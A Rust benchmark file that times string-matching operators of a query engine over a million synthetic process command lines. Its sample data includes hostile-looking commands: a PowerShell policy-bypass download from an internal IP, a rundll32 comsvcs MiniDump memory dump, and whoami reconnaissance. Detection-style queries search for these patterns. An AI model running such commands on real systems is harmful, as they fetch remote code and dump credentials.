//! The hot string operators over a million command lines: `=~`, `has`, `contains`,
//! `startswith`, `in~`, `has_any`, against the naive `tolower(x) == y` plan. Each query
//! runs through the whole engine (`where` + `count`), so the figures include planning;
//! on a million rows the kernel dominates.

use std::hint::black_box;
use std::sync::Arc;
use std::time::Duration;

use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use datafusion::arrow::array::{ArrayRef, StringArray};
use datafusion::arrow::datatypes::{DataType, Field, Schema};
use datafusion::arrow::record_batch::RecordBatch;
use quarry_engine::{Engine, EngineConfig, MemCatalog};

const ROWS: usize = 1_000_000;

fn catalog() -> Arc<MemCatalog> {
    let files = [
        "svchost.exe",
        "chrome.exe",
        "powershell.exe",
        "cmd.exe",
        "OUTLOOK.EXE",
        "conhost.exe",
        "rundll32.exe",
    ];
    let shapes = [
        "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule",
        "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US",
        "powershell.exe -NoProfile -ExecutionPolicy Bypass -Command Invoke-WebRequest http://10.0.0.5/a.ps1",
        "cmd.exe /c whoami /all > C:\\Users\\Public\\out.txt",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 612 C:\\Temp\\d.dmp full",
    ];
    let mut catalog = MemCatalog::new();
    let schema = Arc::new(Schema::new(vec![
        Field::new("FileName", DataType::Utf8, true),
        Field::new("ProcessCommandLine", DataType::Utf8, true),
    ]));
    let mut batches = Vec::new();
    for chunk in 0..(ROWS / 8192) {
        let fname: ArrayRef = Arc::new(StringArray::from_iter_values(
            (0..8192).map(|i| files[(chunk * 7 + i * 13) % files.len()]),
        ));
        let cmd: ArrayRef =
            Arc::new(StringArray::from_iter_values((0..8192).map(|i| {
                format!("{} #{}", shapes[(chunk + i * 3) % shapes.len()], i % 97)
            })));
        batches.push(RecordBatch::try_new(schema.clone(), vec![fname, cmd]).expect("batch"));
    }
    catalog.add_batches("T", schema, batches).expect("table");
    Arc::new(catalog)
}

fn bench_kernels(c: &mut Criterion) {
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .enable_all()
        .build()
        .expect("runtime");
    let engine = Engine::new(EngineConfig::default()).expect("engine");
    let catalog = catalog();
    let queries = [
        ("eq_ci", "T | where FileName =~ 'POWERSHELL.EXE' | count"),
        (
            "naive_tolower_eq",
            "T | where tolower(FileName) == 'powershell.exe' | count",
        ),
        ("has", "T | where ProcessCommandLine has 'comsvcs' | count"),
        (
            "contains",
            "T | where ProcessCommandLine contains 'webrequest' | count",
        ),
        (
            "startswith",
            "T | where ProcessCommandLine startswith 'cmd.exe' | count",
        ),
        (
            "in_ci",
            "T | where FileName in~ ('CMD.EXE', 'powershell.exe', 'Rundll32.exe') | count",
        ),
        (
            "has_any",
            "T | where ProcessCommandLine has_any ('minidump', 'bypass', 'whoami') | count",
        ),
    ];
    let run = |q: &str| {
        let out = runtime
            .block_on(engine.run(q, catalog.clone()))
            .expect("query");
        black_box(out.row_count())
    };
    let mut group = c.benchmark_group("string_kernels_1M");
    group.throughput(Throughput::Elements(ROWS as u64));
    group.sample_size(10);
    for (name, q) in queries {
        group.bench_function(name, |b| b.iter(|| run(q)));
    }
    group.finish();

    // The same queries timed in process CPU time instead of wall time: on a shared
    // machine wall time mostly measures the neighbours, CPU time measures the work.
    let mut group = c.benchmark_group("string_kernels_1M_cpu");
    group.throughput(Throughput::Elements(ROWS as u64));
    group.sample_size(10);
    for (name, q) in queries {
        group.bench_function(name, |b| {
            b.iter_custom(|iters| {
                let start = process_cpu();
                for _ in 0..iters {
                    run(q);
                }
                process_cpu().saturating_sub(start)
            })
        });
    }
    group.finish();
}

/// User + system CPU time of the whole process so far.
fn process_cpu() -> Duration {
    // SAFETY: getrusage only writes into the zeroed struct we own.
    let usage = unsafe {
        let mut usage: libc::rusage = std::mem::zeroed();
        libc::getrusage(libc::RUSAGE_SELF, &mut usage);
        usage
    };
    let tv = |t: libc::timeval| {
        Duration::from_secs(t.tv_sec as u64) + Duration::from_micros(t.tv_usec as u64)
    };
    tv(usage.ru_utime) + tv(usage.ru_stime)
}

/// The predicate alone, without the query around it: `=~` as our kernel against the
/// naive plan's two kernels (DataFusion's `lower`, then Arrow's `eq`), on a million
/// file names.
fn bench_kernel_only(c: &mut Criterion) {
    use datafusion::arrow::array::Scalar;
    use datafusion::arrow::compute::kernels::cmp::eq;
    use datafusion::common::ScalarValue;
    use datafusion::common::config::ConfigOptions;
    use datafusion::logical_expr::{ColumnarValue, ScalarFunctionArgs};
    use quarry_engine::functions::string_ops::{Quantifier, StrMatch, string_predicate_udf};

    let files = [
        "svchost.exe",
        "chrome.exe",
        "PowerShell.exe",
        "cmd.exe",
        "OUTLOOK.EXE",
    ];
    let hay: ArrayRef = Arc::new(StringArray::from_iter_values(
        (0..ROWS).map(|i| files[(i * 13) % files.len()]),
    ));
    let field = Arc::new(Field::new("x", DataType::Utf8, true));
    let args = |needle: &str| ScalarFunctionArgs {
        args: vec![
            ColumnarValue::Array(Arc::clone(&hay)),
            ColumnarValue::Scalar(ScalarValue::Utf8(Some(needle.to_string()))),
        ],
        arg_fields: vec![Arc::clone(&field), Arc::clone(&field)],
        number_rows: ROWS,
        return_field: Arc::new(Field::new("r", DataType::Boolean, true)),
        config_options: Arc::new(ConfigOptions::default()),
    };
    let ours = string_predicate_udf(StrMatch::Equals, false, Quantifier::Any);
    let lower = datafusion::functions::string::lower();
    let needle = Scalar::new(StringArray::from(vec!["powershell.exe"]));
    let mut group = c.benchmark_group("kernel_only_1M");
    group.throughput(Throughput::Elements(ROWS as u64));
    group.bench_function("eq_ci", |b| {
        b.iter(|| {
            black_box(
                ours.invoke_with_args(args("POWERSHELL.EXE"))
                    .expect("eq_ci"),
            )
        })
    });
    group.bench_function("naive_lower_then_eq", |b| {
        b.iter(|| {
            let lowered = lower
                .invoke_with_args(ScalarFunctionArgs {
                    args: vec![ColumnarValue::Array(Arc::clone(&hay))],
                    arg_fields: vec![Arc::clone(&field)],
                    ..args("")
                })
                .and_then(|v| v.into_array(ROWS))
                .expect("lower");
            black_box(eq(&lowered, &needle).expect("eq"))
        })
    });
    group.finish();
}

criterion_group!(benches, bench_kernels, bench_kernel_only);
criterion_main!(benches);
